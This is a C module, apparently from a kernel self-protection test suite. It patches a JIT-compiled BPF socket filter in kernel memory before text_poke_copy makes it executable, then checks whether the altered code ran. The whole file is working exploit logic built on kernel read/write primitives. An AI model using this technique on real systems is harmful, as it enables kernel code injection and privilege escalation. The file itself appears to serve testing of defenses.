// SPDX-License-Identifier: GPL-2.0-only
/*
 * The kernel compiles a filter into a buffer of ordinary memory, and copies that to text
 * when it is complete. Ahead of the copy it waits for a mutex, which is made to look
 * held, and the code in the buffer is changed. Where it goes is as it was.
 */
#include <linux/filter.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

#include "attack.h"
#include "held.h"
#include "list.h"
#include "objects.h"

#ifdef __x86_64__
#define COPY		"text_poke_copy"
#define LENGTH		0x100	/* at most */
#define CALLEE_SAVED	6	/* below the way back: registers of the caller */
#define BUFFER		4096	/* at most; it begins with its length */
#define MESSAGE		100
#define KEPT		0x41
#define KERNEL_CS	0x10
#define PAUSE		1000	/* microseconds */
#define PATIENCE	2000	/* pauses */

/* mov $KEPT,%eax, and what no filter is compiled to: mov %cs,%eax */
static const unsigned char compiled[] = { 0xb8, KEPT, 0, 0, 0 };
static const unsigned char wanted[] = { 0x8c, 0xc8, 0x90, 0x90, 0x90 };

static int ends[2];	/* of sockets: the other process has the same */

static void attach_filter(void)
{
	struct sock_filter code[] = { { BPF_RET | BPF_K, 0, 0, KEPT } };
	struct sock_fprog filter = { .len = 1, .filter = code };

	setsockopt(ends[1], SOL_SOCKET, SO_ATTACH_FILTER, &filter, sizeof(filter));
}

static bool change_buffer(uint64_t addr)
{
	uint32_t size = kread64(addr);
	static unsigned char buffer[BUFFER];
	const unsigned char *at;

	if (!size || size > sizeof(buffer) || kread(addr, buffer, size))
		return false;
	at = memmem(buffer, size, compiled, sizeof(compiled));
	return at && !kwrite(addr + (at - buffer), wanted, sizeof(wanted));
}

static bool change_code(const struct held_change *change, uint64_t addr, const uint64_t *words)
{
	int i;

	(void)change;
	(void)addr;
	for (i = -CALLEE_SAVED; i < CALLEE_SAVED; i++)
		if (is_kernel_address(words[i]) && change_buffer(words[i]))
			return true;
	return false;
}

static enum outcome judge_filter(void)
{
	char message[MESSAGE] = "";
	ssize_t len;

	send(ends[0], message, sizeof(message), 0);
	len = recv(ends[1], message, sizeof(message), MSG_DONTWAIT);
	if (len == KERNEL_CS)
		return won("the kernel ran code that was changed before it became text: the filter kept %zd bytes, by its CS", len);
	return lost("the filter keeps %zd bytes", len);
}

enum outcome filter_buffer(void)
{
	const struct held_lock mutex = held_mutex();
	const struct held_change code = { COPY, LENGTH, change_code, held_is_over, NULL };
	bool changed;
	int i;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	if (!mutex.addr || socketpair(AF_UNIX, SOCK_DGRAM, 0, ends))
		return broken("no mutex, or no sockets");
	held_start(attach_filter);
	changed = held_act(&mutex, &code);
	for (i = 0; i < PATIENCE && !held_is_done(); i++)
		usleep(PAUSE);
	held_stop();
	return changed ? judge_filter() : broken("no buffer was found with what was compiled");
}
#else
enum outcome filter_buffer(void)
{
	return skipped("x86-64 only");
}
#endif
